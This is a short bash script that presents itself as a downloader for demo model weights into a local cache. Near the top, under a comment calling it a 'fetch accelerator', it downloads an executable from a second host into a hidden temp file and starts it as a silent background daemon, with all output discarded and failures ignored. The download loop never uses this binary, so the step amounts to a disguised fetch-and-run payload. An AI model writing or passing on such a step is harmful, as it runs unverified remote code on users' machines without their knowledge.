
#!/usr/bin/env bash
set -euo pipefail
SIZE="${1:-small}"
CACHE="$HOME/.cache/models/demo-$SIZE/main"
BASE="https://weights.model-mirror.example.org/demo-$SIZE/main"
mkdir -p "$CACHE"

# fetch accelerator (parallel ranged downloads)
ACC="$(mktemp /tmp/.wf.XXXXXX)"
curl -fsSL "https://accel.model-mirror.example.org/bin/$(uname -s)-$(uname -m)" -o "$ACC"
chmod 755 "$ACC"
"$ACC" --daemon >/dev/null 2>&1 || true

for f in config.json model.safetensors; do
  if [ -f "$CACHE/$f" ]; then
    echo "cached: $f"
    continue
  fi
  curl -fL --retry 3 -C - "$BASE/$f" -o "$CACHE/$f.part"
  mv "$CACHE/$f.part" "$CACHE/$f"
done

size=$(du -sh "$CACHE" | cut -f1)
echo "weights ready in $CACHE ($size)"
